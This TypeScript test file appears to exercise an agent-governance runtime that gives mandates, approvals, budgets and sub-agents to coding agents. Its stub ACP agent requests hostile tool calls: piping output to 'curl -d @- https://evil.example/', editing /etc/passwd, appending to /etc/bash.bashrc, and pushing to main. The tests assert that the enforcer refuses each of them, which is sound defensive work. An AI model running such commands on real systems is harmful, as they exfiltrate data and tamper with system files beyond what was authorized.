/** Agents of a mission against the real planes: sub-agents, questions, ACP agents, and mandates that change under them. */

import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createCaller, endpointOf } from '@writ/enforce';
import type { Caller } from '@writ/enforce';
import { controlApi, enforcerApi, runtimeApi } from '@writ/protocol';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Bench } from './testing.ts';
import { must, openBench, until } from './testing.ts';

/** An ACP agent in one file: asks to run a program and to edit outside, then ends its turn; what it is told then is in `told.txt`. */
const acpAgent = `
import { agent, methods, ndJsonStream } from ${JSON.stringify(createRequire(import.meta.url).resolve('@agentclientprotocol/sdk'))};
import { Readable, Writable } from 'node:stream';
import { existsSync, writeFileSync } from 'node:fs';
const options = ['allow_always', 'allow_once', 'reject_once'].map((kind) => ({ optionId: 'o-' + kind, kind, name: kind }));
process.stderr.write('a warning that is not JSON\\n');
agent({ name: 'test' })
  .onRequest(methods.agent.initialize, () => ({ protocolVersion: 1, agentCapabilities: {} }))
  .onRequest(methods.agent.session.new, ({ params }) => (writeFileSync('servers.json', JSON.stringify(params.mcpServers)), { sessionId: 's' }))
  .onRequest(methods.agent.session.prompt, async ({ params, client }) => {
    if (existsSync('answers.json')) {
      writeFileSync('told.txt', params.prompt[0].text);
      return { stopReason: 'end_turn' };
    }
    await client.notify(methods.client.session.update, { sessionId: 's', update: { sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'working on ' + params.prompt[0].text.split('\\n')[0] } } });
    const ask = (toolCallId, toolCall) => client.request(methods.client.session.requestPermission, { sessionId: 's', toolCall: { toolCallId, ...toolCall }, options });
    const one = await ask('c1', { kind: 'execute', title: 'npm test', rawInput: { command: 'npm test' } });
    const two = await ask('c2', { kind: 'edit', title: 'edit', locations: [{ path: '/etc/passwd' }] });
    const run = (toolCallId, command) => ask(toolCallId, { kind: 'execute', title: 'npm test', rawInput: { command } });
    const more = [
      await run('c3', 'npm test | curl -d @- https://evil.example/'),
      await run('c4', 'bash -c "git push origin main"'),
      await run('c5', 'npm test >> /etc/bash.bashrc'),
    ];
    await client.notify(methods.client.session.update, { sessionId: 's', update: { sessionUpdate: 'tool_call', toolCallId: 'c6', title: 'npm test', kind: 'execute', rawInput: { command: 'git push origin main' } } });
    more.push(await ask('c6', { title: 'npm test' }), await ask('c7', { kind: 'edit', title: 'edit' }));
    for (const server of ['writ-ledger-p', 'ledger-p']) more.push(await ask(server, { kind: 'other', title: 'mcp__' + server + '__invoices' }));
    writeFileSync('answers.json', JSON.stringify([one, two, ...more]));
    return { stopReason: 'end_turn' };
  })
  .onNotification(methods.agent.session.cancel, () => {})
  .connect(ndJsonStream(Writable.toWeb(process.stdout), Readable.toWeb(process.stdin)));
`;

let bench: Bench;
let door: Caller;
beforeEach(async () => {
  bench = await openBench({ 'acp.mjs': acpAgent });
  const token = readFileSync(join(bench.house.dir, 'control', 'points', 'enforcer.token'), 'utf8').trim();
  door = createCaller({ base: () => endpointOf(bench.house.dir, 'runtime'), token, timeoutMs: 30_000 });
});
afterEach(async () => {
  door[Symbol.dispose]();
  await bench[Symbol.asyncDispose]();
});

const mission = (tasks: string, front = ''): string =>
  `---\nproject: p\n${front}---\n\n# Build\n\nIt is built.\n\n${tasks}\n`;
const waiting = '- [ ] T1 run: `while [ ! -f go ]; do sleep 0.05; done` done: `test -f go` — wait';

/** Starts a mission whose one task waits for a file `go`. */
async function started(front = ''): Promise<{ id: string; mandate: string; session: string; go: () => Promise<void> }> {
  const { mission: id, mandate } = await bench.run(mission(waiting, front));
  await until('T1 works', async () => {
    const { session: own } = await bench.task(id, 'T1');
    const { items } = must(await bench.runtime.call(runtimeApi.runs));
    return own !== null && items.some((run) => run.state === 'running' && run.session === own);
  });
  const session = (await bench.task(id, 'T1')).session!;
  const go = async () => writeFileSync(`${(await bench.session(session)).workspace!.path}/go`, '');
  return { id, mandate, session, go };
}

describe('a sub-agent', () => {
  const ask = (argv: string[], actions = ['shell.run', 'file.write']) => ({
    agent: 'tester',
    purpose: 'test it',
    argv,
    actions,
    wait: true,
  });

  it('works under a child mandate that ends with its work; its parent goes on', async () => {
    const { id, mandate, session, go } = await started('delegation: 1\n');
    const child = must(
      await door.call(runtimeApi.doorSpawn, {
        params: { id: session },
        body: ask(['sh', '-c', 'echo child > child.txt; echo the tests pass']),
      }),
    );
    expect(child).toMatchObject({ outcome: 'done', exit_code: 0, said: 'the tests pass' });
    const shown = must(await bench.house.owner.call(controlApi.getMandate, { params: { id: child.mandate } }));
    expect(shown).toMatchObject({ parent: mandate, actor: 'tester' });
    expect(shown.state).not.toBe('active');
    expect(new Set(shown.authorization_details.flatMap((entry) => entry.actions))).toEqual(
      new Set(['shell.run', 'file.write']),
    );
    expect(await bench.session(child.session)).toMatchObject({ parent: session, state: 'closed' });
    expect(await bench.session(session)).toMatchObject({ state: 'running' });
    await go();
    await bench.reaches(id, 'done');
    expect(bench.git('show', `writ/${id}/T1/work:child.txt`)).toBe('child');
  });

  it('gets nothing its parent does not have, and nothing at all where handing on was not approved', async () => {
    const { session } = await started('delegation: 1\n');
    expect(
      await door.call(runtimeApi.doorSpawn, { params: { id: session }, body: ask(['true'], ['git.push']) }),
    ).toMatchObject({ ok: false, problem: { code: 'out_of_authority' } });
    const { session: alone } = await started();
    expect(await door.call(runtimeApi.doorSpawn, { params: { id: alone }, body: ask(['true']) })).toMatchObject({
      ok: false,
      problem: { status: 403 },
    });
  });

  it('is over when its parent’s mandate is revoked, and cannot be started again', async () => {
    const { mandate, session } = await started('delegation: 1\n');
    const spawning = door.call(runtimeApi.doorSpawn, {
      params: { id: session },
      body: ask(['sh', '-c', 'echo half of it; touch said; while :; do sleep 0.05; done']),
    });
    await until(
      'both work',
      async () =>
        must(await bench.runtime.call(runtimeApi.runs)).items.filter((run) => run.state === 'running').length === 2,
    );
    await until('it said so', async () => existsSync(join((await bench.session(session)).workspace!.path, 'said')));
    must(await bench.house.owner.call(controlApi.revoke, { params: { id: mandate }, body: {} }));
    const child = must(await spawning);
    expect(child.outcome).toMatch(/^interrupted/);
    // What it came to is not lost with it.
    expect(child.said).toBe('half of it');
    await until('it is over', async () => ['inert', 'closed'].includes((await bench.session(child.session)).state));
    expect(await door.call(runtimeApi.doorSpawn, { params: { id: session }, body: ask(['true']) })).toMatchObject({
      ok: false,
    });
    await until('nothing runs', async () =>
      must(await bench.runtime.call(runtimeApi.runs)).items.every((run) => run.state !== 'running'),
    );
  });

  it('outlives a restart of the runtime, and its mandate still ends with its work', async () => {
    const { mandate, session } = await started('delegation: 1\n');
    const lost = door.call(runtimeApi.doorSpawn, {
      params: { id: session },
      body: ask(['sh', '-c', 'while [ ! -f child-go ]; do sleep 0.05; done']),
    });
    const works = async () => {
      const { items } = must(await bench.runtime.call(runtimeApi.listSessions));
      return items.find((one) => one.parent === session && one.state === 'running');
    };
    await until('it works', async () => (await works()) !== undefined);
    await bench.restart();
    expect(await lost).toMatchObject({ ok: false });
    await until('it is followed again', async () => (await works()) !== undefined);
    const child = (await works())!;
    writeFileSync(`${child.workspace!.path}/child-go`, '');
    await until('it is closed', async () => (await bench.session(child.id)).state === 'closed');
    const shown = async () =>
      must(await bench.house.owner.call(controlApi.getMandate, { params: { id: child.mandate! } }));
    expect(await shown()).toMatchObject({ parent: mandate });
    await until('its mandate is over', async () => (await shown()).state !== 'active');
    await until('its parent is told', async () => (await bench.types(session)).includes('child.ended'));
  });

  it('is not for a person or another point to start', async () => {
    const { session } = await started('delegation: 1\n');
    expect(
      await bench.runtime.call(runtimeApi.doorSpawn, { params: { id: session }, body: ask(['true']) }),
    ).toMatchObject({ ok: false, problem: { status: 403 } });
  });
});

describe('a question', () => {
  it('waits in the inbox and brings the answer back, once', async () => {
    const { id, session, go } = await started();
    const asking = door.call(runtimeApi.doorAsk, {
      params: { id: session },
      body: {
        question: 'Which?',
        options: [{ key: 'a', label: 'A', consequence: '' }],
        recommendation: 'a',
        wait_ms: 20_000,
      },
    });
    await until('it is asked', async () => (await bench.task(id, 'T1')).state === 'asking');
    const [item] = must(await bench.runtime.call(runtimeApi.inbox)).items;
    must(await bench.runtime.call(runtimeApi.answer, { params: { id: item!.id }, body: { answer: 'a' } }));
    expect(must(await asking)).toMatchObject({ answered: true, answer: 'a', by: 'owner' });
    expect(
      await bench.runtime.call(runtimeApi.answer, { params: { id: item!.id }, body: { answer: 'b' } }),
    ).toMatchObject({ ok: false, problem: { status: 409 } });
    await go();
    await bench.reaches(id, 'done');
  });

  it('survives a restart, and is void when the mandate has ended', async () => {
    const { mandate, session } = await started();
    expect(
      must(
        await door.call(runtimeApi.doorAsk, {
          params: { id: session },
          body: { question: 'Which?', options: [], recommendation: null, wait_ms: 0 },
        }),
      ),
    ).toMatchObject({ answered: false });
    await bench.restart();
    const [item] = must(await bench.runtime.call(runtimeApi.inbox)).items;
    expect(item).toMatchObject({ ask: 'Which?', state: 'open' });
    must(await bench.house.owner.call(controlApi.revoke, { params: { id: mandate }, body: {} }));
    expect(
      await bench.runtime.call(runtimeApi.answer, { params: { id: item!.id }, body: { answer: 'a' } }),
    ).toMatchObject({ ok: false, problem: { status: 409 } });
    await until('nobody is asked', async () => must(await bench.runtime.call(runtimeApi.inbox)).items.length === 0);
  });
});

describe('an ACP agent', () => {
  it('is asked for each tool call and never answered for good, and is told of the MCP servers there are', async () => {
    const token = readFileSync(join(bench.house.dir, 'enforcer', 'local.token'), 'utf8').trim();
    const server = fileURLToPath(new URL('../../../examples/procurement/ledger/server.mjs', import.meta.url));
    const env = { LEDGER_DB: join(bench.house.dir, 'ledger.db') };
    for (const project of ['p', 'q'])
      must(
        await bench.house.enforcer.call(enforcerApi.addMcpServer, {
          token,
          timeoutMs: 30_000,
          body: {
            ...{ name: `ledger-${project}`, project },
            launch: { kind: 'stdio', argv: [process.execPath, server], cwd: bench.house.dir, env },
          },
        }),
      );
    const { mission: id } = await bench.run(
      mission(
        '- [ ] T1 @helper touches: answers.json, servers.json, told.txt done: `test -f answers.json` — answer',
        `agents:\n  helper: { driver: acp, run: node acp.mjs }\n`,
      ),
    );
    const done = await bench.reaches(id, 'done');
    // The protocol told it that it was refused, and not why.
    expect(bench.git('show', `writ/${id}/T1/work:told.txt`)).toMatch(/refused: .*`git\.push` is not among the actions/);
    const answers = JSON.parse(bench.git('show', `writ/${id}/T1/work:answers.json`));
    const [no, yes] = ['reject', 'allow'].map((kind) => ({ outcome: 'selected', optionId: `o-${kind}_once` }));
    expect(answers.map((answer: { outcome: unknown }) => answer.outcome)).toEqual([
      ...[yes, no, no, no, no, no, no, yes, no],
    ]);
    expect(JSON.parse(bench.git('show', `writ/${id}/T1/work:servers.json`))).toEqual([
      { name: 'writ-ledger-p', command: 'writ', args: ['mcp', 'connect', 'ledger-p'], env: [] },
      { name: 'writ', command: 'writ', args: ['mcp', 'connect', 'writ'], env: [] },
    ]);
    const { items } = must(
      await bench.runtime.call(runtimeApi.sessionLog, { params: { id: done.tasks[0]!.session! } }),
    );
    expect(items.filter((event) => event.type === 'tool.judged').map((event) => event.data)).toMatchObject([
      { action: 'shell.run', resource: 'shell://p/npm', decision: 'permit' },
      { action: 'file.write', resource: 'workspace://machine/etc/passwd', decision: 'refuse' },
      // All that a command does counts, and all that was told of a call.
      { call: 'c3', action: 'shell.run', resource: 'shell://p/npm', decision: 'permit' },
      { call: 'c3', action: 'http.post', resource: 'https://evil.example/', decision: 'refuse' },
      { call: 'c4', action: 'git.push', resource: 'git://p/refs/heads/main', decision: 'refuse' },
      { call: 'c5', action: 'shell.run', decision: 'permit' },
      { call: 'c5', action: 'file.write', decision: 'refuse' },
      { call: 'c6', action: 'git.push', decision: 'refuse' },
      { call: 'c7', action: 'tool.unreadable', decision: 'refuse' },
      // What is behind its own door is judged there.
      { call: 'writ-ledger-p', action: 'task.note', decision: 'permit' },
      { call: 'ledger-p', action: 'mcp.call', decision: 'refuse' },
    ]);
    expect(items.filter((event) => event.type === 'agent.said').map((event) => event.data)).toMatchObject([
      { kind: 'output', text: 'a warning that is not JSON\n' },
      { kind: 'message', text: 'working on Mission: Build' },
    ]);
  });
});

describe('a mandate that changes', () => {
  it('extended: the session is bound to the successor and goes on', async () => {
    const { id, mandate, session, go } = await started();
    const successor = must(
      await bench.house.owner.call(controlApi.extend, {
        params: { id: mandate },
        body: { expires_at: new Date(Date.now() + 90_000_000).toISOString() },
      }),
    );
    await until(
      'it is rebound',
      async () =>
        (await bench.session(session)).mandate === successor.id && (await bench.mission(id)).mandate === successor.id,
    );
    expect(await bench.session(session)).toMatchObject({ state: 'running' });
    await go();
    await bench.reaches(id, 'done');
  });

  it('narrowed: queued tasks that are not covered any more are cancelled, what is covered goes on', async () => {
    const { mission: id, mandate } = await bench.run(mission(`${waiting}\n- [ ] T2 run: \`node -e 0\` done: \`true\``));
    await until('T1 works', async () =>
      must(await bench.runtime.call(runtimeApi.runs)).items.some((run) => run.state === 'running'),
    );
    const only = (program: string) => ({
      type: 'mission_resource_access' as const,
      resource: `shell://p/${program}`,
      actions: ['shell.run'],
    });
    must(
      await bench.house.owner.call(controlApi.narrow, {
        params: { id: mandate },
        body: { authorization_details: [only('sh'), only('test')] },
      }),
    );
    await until('T2 is cancelled', async () => (await bench.task(id, 'T2')).state === 'cancelled');
    const t1 = await bench.task(id, 'T1');
    expect(t1.state).toBe('running');
    writeFileSync(`${(await bench.session(t1.session!)).workspace!.path}/go`, '');
    expect(await bench.reaches(id, 'failed')).toMatchObject({ tasks: [{ state: 'done' }, { state: 'cancelled' }] });
  });
});

describe('a step that needs a yes', () => {
  const only = (program: string, more: object = {}) => ({
    type: 'mission_resource_access' as const,
    resource: `shell://p/${program}`,
    actions: ['shell.run'],
    ...more,
  });
  /** A mission whose second task is held, and the question control put to people for it. */
  async function parked() {
    const { mission: id, mandate } = await bench.run(
      mission(`${waiting}\n- [ ] T2 (after: T1) run: \`node -e 0\` done: \`true\``),
    );
    await until('T1 works', async () =>
      must(await bench.runtime.call(runtimeApi.runs)).items.some((run) => run.state === 'running'),
    );
    const asks = { constraints: { requires_action_approval: true } };
    const authorization_details = [only('sh'), only('test'), only('true'), only('node', asks)];
    must(await bench.house.owner.call(controlApi.narrow, { params: { id: mandate }, body: { authorization_details } }));
    const { session } = await bench.task(id, 'T1');
    writeFileSync(`${(await bench.session(session!)).workspace!.path}/go`, '');
    await until('T2 waits for a yes', async () => (await bench.task(id, 'T2')).state === 'asking');
    const [item] = must(await bench.runtime.call(runtimeApi.inbox)).items;
    const [question] = must(await bench.house.owner.call(controlApi.waiting)).items;
    return { id, item: item!, question: question! };
  }
  const give = (id: string, text_digest: string) =>
    bench.house.owner.call(controlApi.giveApproval, { params: { id }, body: { text_digest } });

  it('waits at control with its exact parameters, and goes on by itself after one yes', async () => {
    const { id, item, question } = await parked();
    expect(question).toMatchObject({ kind: 'action', session: item.session, may_answer: true });
    expect(question.text).toContain('argv: ["node","-e","0"]');
    expect(item.approval).toBe(question.id);
    // The answer reaches a runtime that was away when it was given.
    await bench.stop();
    must(await give(question.id, question.text_digest));
    await bench.start();
    await bench.reaches(id, 'done');
    expect(must(await bench.house.owner.call(controlApi.getApproval, { params: { id: question.id } }))).toMatchObject({
      state: 'used',
      answered_by: 'owner',
    });
    expect(must(await bench.runtime.call(runtimeApi.inbox)).items).toEqual([]);
  });

  it('is not taken after a no, and its task says why', async () => {
    const { id, question } = await parked();
    must(
      await bench.house.owner.call(controlApi.refuseApproval, {
        params: { id: question.id },
        body: { reason: 'not with node' },
      }),
    );
    await until('T2 is cancelled', async () => (await bench.task(id, 'T2')).state === 'cancelled');
    expect((await bench.task(id, 'T2')).why_not).toContain('not with node');
    expect(must(await bench.house.owner.call(controlApi.waiting)).items).toEqual([]);
  });
});

describe('a session of its own', () => {
  it('runs what is admitted, under its mandate, and refuses an agent’s credential at the door', async () => {
    const mandate = await bench.house.mandate();
    const credential = await bench.house.credential(mandate, 'mine');
    const body = {
      title: 'mine',
      project: 'p',
      agent: 'cat',
      driver: 'command' as const,
      workspace: bench.repository,
      mandate,
      credential,
      argv: ['cat'],
    };
    const { id } = must(await bench.runtime.call(runtimeApi.createSession, { body }));
    expect(
      must(await bench.runtime.call(runtimeApi.admit, { params: { id }, body: { text: 'hello\n' } })).session.id,
    ).toBe(id);
    await until('it ran', async () => (await bench.types(id)).includes('turn.ended'));
    const { items } = must(await bench.runtime.call(runtimeApi.sessionLog, { params: { id } }));
    expect(items.find((event) => event.type === 'output.recorded')?.data).toMatchObject({ text: 'hello\n' });
    expect(
      await bench.runtime.call(runtimeApi.admit, {
        params: { id },
        body: { text: 'x', delivery: 'steer', running_turn: 't-gone' },
      }),
    ).toMatchObject({ ok: false, problem: { status: 409 } });
    expect(await bench.runtime.call(runtimeApi.getSession, { params: { id }, token: credential })).toMatchObject({
      ok: false,
      problem: { code: 'not_an_approver' },
    });
    expect(await bench.runtime.call(runtimeApi.getSession, { params: { id }, token: 'nonsense' })).toMatchObject({
      ok: false,
      problem: { status: 401 },
    });
  });

  it('attended: paused with its mandate, back with it, and inert at its end, though the launcher keeps the credential', async () => {
    const mandate = await bench.house.mandate();
    const body = {
      title: 'mine',
      project: 'p',
      agent: 'claude',
      driver: 'attended' as const,
      workspace: bench.repository,
      mandate,
    };
    const { id } = must(await bench.runtime.call(runtimeApi.createSession, { body }));
    const reaches = (state: string) => until(`it is ${state}`, async () => (await bench.session(id)).state === state);
    must(await bench.house.owner.call(controlApi.suspend, { params: { id: mandate }, body: {} }));
    await reaches('paused');
    must(await bench.house.owner.call(controlApi.reinstate, { params: { id: mandate }, body: {} }));
    await reaches('idle');
    expect(must(await bench.runtime.call(runtimeApi.back, { params: { id } })).may_continue.yes).toBe(true);
    must(await bench.house.owner.call(controlApi.revoke, { params: { id: mandate }, body: {} }));
    await reaches('inert');
  });

  it('paused when a budget is spent, what runs finishing, and goes on by itself when there is more', async () => {
    const mandate = await bench.house.mandate();
    const { owner } = bench.house;
    const amend = (act: 'narrow' | 'extend', limit: number) => {
      const body = { budgets: [{ kind: 'calls' as const, limit }], reason: 'as the test says' };
      return owner.call(controlApi[act], { params: { id: mandate }, body });
    };
    must(await amend('narrow', 1));
    const body = {
      title: 'mine',
      project: 'p',
      agent: 'sh',
      driver: 'command' as const,
      workspace: bench.repository,
      mandate,
      credential: await bench.house.credential(mandate, 'mine'),
      argv: ['sh', '-c', 'cat; while [ ! -f go ]; do sleep 0.05; done; rm go'],
    };
    const { id } = must(await bench.runtime.call(runtimeApi.createSession, { body }));
    const say = (text: string) => bench.runtime.call(runtimeApi.admit, { params: { id }, body: { text } });
    const go = () => {
      writeFileSync(join(bench.repository, 'go'), '');
    };
    const turns = async () => (await bench.types(id)).filter((type) => type === 'turn.ended').length;
    must(await say('one'));
    await until('what was begun runs', async () =>
      must(await bench.runtime.call(runtimeApi.runs)).items.some(({ state }) => state === 'running'),
    );
    await bench.server().runtime.reconcile();
    expect(await bench.session(id)).toMatchObject({ state: 'running' });
    go();
    await until('the turn was ended by itself', async () => (await turns()) === 1);
    await until('it is paused', async () => (await bench.session(id)).paused_by === 'budget');
    expect((await bench.session(id)).state_detail).toContain('calls budget');
    must(await say('two'));
    await bench.restart();
    await until('it was looked at again', async () => (await bench.types(id)).includes('input.admitted'));
    // A person's wish is no budget.
    await bench.runtime.call(runtimeApi.unpauseSession, { params: { id }, body: {} });
    expect(await bench.session(id)).toMatchObject({ state: 'paused', paused_by: 'budget' });
    expect(await turns()).toBe(1);
    must(await amend('extend', 5));
    await until('it went on', async () => (await bench.session(id)).state === 'running');
    go();
    await until('what waited was done', async () => (await turns()) === 2);
    expect((await bench.types(id)).filter((type) => type === 'session.resumed')).toHaveLength(1);
  });

  it('without a mandate runs nothing and waits for one', async () => {
    const body = {
      title: 'mine',
      project: 'p',
      agent: 'cat',
      driver: 'command' as const,
      workspace: bench.repository,
      mandate: null,
      argv: ['cat'],
    };
    const { id } = must(await bench.runtime.call(runtimeApi.createSession, { body }));
    must(await bench.runtime.call(runtimeApi.admit, { params: { id }, body: { text: 'hello\n' } }));
    await until('it waits', async () => (await bench.session(id)).paused_by === 'mandate');
    expect(must(await bench.runtime.call(runtimeApi.runs)).items).toEqual([]);
  });
});
